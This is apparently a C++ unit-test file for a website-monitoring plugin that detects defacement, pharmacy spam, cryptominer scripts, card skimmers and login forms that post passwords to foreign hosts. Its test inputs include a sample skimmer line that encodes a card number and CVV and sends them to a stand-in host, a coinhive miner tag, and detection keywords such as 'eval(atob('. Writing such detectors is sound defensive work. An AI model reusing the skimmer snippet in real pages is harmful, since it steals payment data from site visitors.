#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "lib/signatures/scanner.hpp"
#include "plugins/page_for_test.hpp"
#include "plugins/signature_document.hpp"

namespace webmon::plugins {
namespace {

using ::testing::AllOf;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

Page page_at(const std::string& url, std::string body,
             std::string_view type = "text/html; charset=utf-8") {
  Page page = page_for_test(std::move(body), type);
  page.url = page.hops.back().url = *parse_url(url);
  return page;
}

std::vector<std::string> hits_of(const Report& report) {
  std::vector<std::string> ids;
  const auto* hits = report.facts.if_contains("hits");
  if (hits == nullptr) return ids;
  for (const auto& hit : hits->as_array()) ids.emplace_back(hit.at("id").as_string());
  return ids;
}

/// The member of the first hit.
std::string of_hit(const Report& report, std::string_view member) {
  const auto* hits = report.facts.if_contains("hits");
  return hits == nullptr ? "(none)" : boost::json::serialize(hits->as_array().at(0).at(member));
}

// ---- every rule of ours

struct Sample {
  std::string place;  ///< file and line
  std::string rule;
  bool is_hit = false;
  Page page;
};

std::vector<Sample> read_samples(const std::filesystem::path& file) {
  std::ifstream in{file};
  EXPECT_TRUE(in) << file;
  std::vector<Sample> samples;
  std::string html, url;
  const auto end_page = [&] {
    if (!samples.empty()) samples.back().page = page_at(url, std::exchange(html, {}));
  };
  int number = 0;
  for (std::string line; std::getline(in, line);) {
    ++number;
    if (!line.starts_with("### ")) {
      html += line + "\n";
      continue;
    }
    end_page();
    std::istringstream words{line.substr(4)};
    std::string kind, rule, at;
    url = "http://site.example/";
    words >> kind >> rule;
    if (words >> at) words >> url;
    EXPECT_TRUE(kind == "hit" || kind == "miss") << file << ":" << number;
    samples.push_back(
        {file.filename().string() + ":" + std::to_string(number), rule, kind == "hit", {}});
  }
  end_page();
  return samples;
}

std::vector<Sample> all_samples() {
  std::vector<Sample> all;
  const std::filesystem::path folder = WEBMON_SOURCE_DIR "/src/plugins/testdata/signatures";
  for (const auto& entry : std::filesystem::directory_iterator(folder)) {
    if (entry.path().extension() != ".txt") continue;
    for (auto& sample : read_samples(entry.path())) all.push_back(std::move(sample));
  }
  return all;
}

/// What plugins look at without page-class, which would skip some of these pages.
Asset without_page_class() {
  Asset asset;
  asset.plugins["page-class"] = boost::json::object{{"accept", {"error", "login", "empty"}}};
  return asset;
}

TEST(Signatures, EveryRuleFindsItsSamplesAndLeavesWhatComesClose) {
  struct Seen {
    int hits = 0, misses = 0;
  };
  std::map<std::string, Seen> seen;
  for (const Sample& sample : all_samples()) {
    SCOPED_TRACE(sample.place + " " + sample.rule);
    const auto hits =
        hits_of(run_plugin("signatures", sample.page, {}, without_page_class()).report);
    if (sample.rule == "*") {
      EXPECT_THAT(hits, IsEmpty());
    } else if (sample.is_hit) {
      EXPECT_THAT(hits, Contains(sample.rule));
    } else {
      EXPECT_THAT(hits, Not(Contains(sample.rule)));
    }
    ++(sample.is_hit ? seen[sample.rule].hits : seen[sample.rule].misses);
  }
  EXPECT_GE(seen["*"].misses, 5);
  seen.erase("*");
  const auto names = signatures::scanner_of_this_thread().rules().names();
  EXPECT_GE(names.size(), 20U);
  for (const auto& name : names) {
    EXPECT_GE(seen[name].hits, 1) << name << " needs a page that it finds";
    EXPECT_GE(seen[name].misses, 1) << name << " needs a page that comes close";
  }
  for (const auto& [rule, count] : seen) EXPECT_THAT(names, Contains(rule)) << "no such rule";
}

// ---- the report

constexpr std::string_view kDefaced = "<title>Hacked by Moth</title><p>hi";

TEST(Signatures, StrongRulesAreCritWithPlaceAndExcerpt) {
  const Report report = run_plugin("signatures", page_for_test(std::string{kDefaced})).report;
  EXPECT_EQ(report.state, ReportState::crit);
  EXPECT_EQ(report.reason, "defacement");
  EXPECT_EQ(value_of(report, "score"), 90);
  EXPECT_EQ(of_hit(report, "id"), "\"defacement_title\"");
  EXPECT_EQ(of_hit(report, "family"), "\"defacement\"");
  EXPECT_EQ(of_hit(report, "where"), "\"title\"");
  EXPECT_EQ(of_hit(report, "weight"), "90");
  EXPECT_EQ(of_hit(report, "excerpt"), "\"Hacked by Moth\"");
  ASSERT_EQ(report.findings.size(), 1U);
  EXPECT_THAT(report.findings[0].message, HasSubstr("the page looks defaced"));
  EXPECT_EQ(report.findings[0].evidence, "Hacked by Moth");
}

TEST(Signatures, WeakerRulesAreWarnings) {
  const Report report =
      run_plugin(
          "signatures",
          page_for_test("<title>Buy Viagra</title><p>kamagra and cialis without prescription"))
          .report;
  EXPECT_EQ(report.state, ReportState::warn);
  EXPECT_EQ(report.reason, "spam");
  EXPECT_EQ(value_of(report, "score"), 60);
}

TEST(Signatures, OrdinaryPagesScoreZeroAndTakeNoSpace) {
  const Report report =
      run_plugin("signatures", page_for_test("<title>Boats</title><p>Boats")).report;
  EXPECT_EQ(report.state, ReportState::ok);
  EXPECT_EQ(value_of(report, "score"), 0);
  EXPECT_TRUE(report.facts.empty());
  EXPECT_TRUE(report.findings.empty());
}

TEST(Signatures, AnAssetIgnoresRules) {
  Asset asset;
  asset.plugins["signatures"] = boost::json::object{{"ignore", {"defacement_title", 7}}};
  const auto page = page_for_test(std::string{kDefaced});
  EXPECT_EQ(run_plugin("signatures", page, {}, asset).report.state, ReportState::ok);
}

TEST(Signatures, SeveralFamiliesEachHaveTheirFinding) {
  const Report report =
      run_plugin("signatures",
                 page_for_test(std::string{kDefaced} +
                               "<script src=https://coinhive.com/lib/coinhive.min.js></script>"))
          .report;
  EXPECT_THAT(hits_of(report), AllOf(Contains("defacement_title"), Contains("miner_source")));
  EXPECT_EQ(report.findings.size(), 2U);
  EXPECT_EQ(value_of(report, "score"), 90) << "that of the worst family";
}

TEST(Signatures, ScriptsAndOtherTextsAreReadToo) {
  const std::string code =
      "var i=new Image();i.src='//a.example/?'+btoa(cc_number.value+'|'+cvv.value);";
  const auto script =
      run_plugin("signatures", page_at("http://site.example/a.js", code, "application/javascript"));
  EXPECT_THAT(hits_of(script.report), Contains("skimmer_encoded_exfiltration"));
  EXPECT_EQ(of_hit(script.report, "where"), "\"script\"");
  const auto text =
      run_plugin("signatures", page_at("http://site.example/a.txt",
                                       "hacked by moth, greetz to all, sorry admin", "text/plain"));
  EXPECT_THAT(hits_of(text.report), Contains("defacement_boast"));
  const auto image =
      run_plugin("signatures", page_at("http://site.example/a.png", code, "image/png"));
  EXPECT_EQ(image.report.state, ReportState::skipped);
  EXPECT_EQ(image.report.reason, "not_text");
}

TEST(Signatures, WhatIsNotThePageItselfIsNotJudged) {
  Page failed = page_for_test(std::string{kDefaced});
  failed.outcome = Outcome::timeout;
  EXPECT_EQ(run_plugin("signatures", failed).report.reason, "no_page");
  Page blocked =
      page_for_test("<title>Just a moment...</title><p>Enable JavaScript and cookies to continue");
  EXPECT_EQ(run_plugin("signatures", blocked).report.reason, "page_class");
}

TEST(Signatures, BoundsAHostilePage) {
  std::string text = "<title>hacked by x</title>";
  for (int i = 0; i < 40'000; ++i) text += "hacked by greetz drwxr-xr-x cvv viagra cialis ";
  text += "<script>";
  for (int i = 0; i < 10'000; ++i) text += "cvv btoa( new Image .src= eval(atob( wss://";
  const Report report = run_plugin("signatures", page_for_test(text)).report;  // of bounded size
  EXPECT_LE(report.findings.size(), 7U);
  std::string binary = "<title>";
  for (int i = 0; i < 3000; ++i) binary += static_cast<char>(i * 7);
  run_plugin("signatures", page_for_test(binary));
}

TEST(Signatures, FieldsCannotForgeTheirMarkup) {
  const auto document = signature_document(
      page_for_test("<form action='x\">\n<input type=\"password'><input name='a\" \ntype=\"file'>"
                    "</form><script src='a.js\">\neval('></script>"));
  ASSERT_TRUE(document);
  EXPECT_EQ(document->text(),
            "\n\n\n\n"
            "<form action=\"x > <input type= password\" method=\"\">\n"
            "<input type=\"text\" name=\"a   type= file\">\n"
            "<script src=\"a.js > eval(\">\n");
  EXPECT_FALSE(document->has_password);
}

TEST(Signatures, ADocumentSaysWhereAPasswordGoes) {
  const auto of = [](const std::string& action) {
    return signature_document(
        page_for_test("<form action='" + action + "'><input type=password></form>"));
  };
  EXPECT_TRUE(of("/login")->has_password);
  EXPECT_FALSE(of("/login")->sends_password_away);
  EXPECT_FALSE(of("https://login.site.example/")->sends_password_away);
  EXPECT_TRUE(of("//evil.example/")->sends_password_away);
  EXPECT_EQ(of("/")->host, "site.example");
}

}  // namespace
}  // namespace webmon::plugins
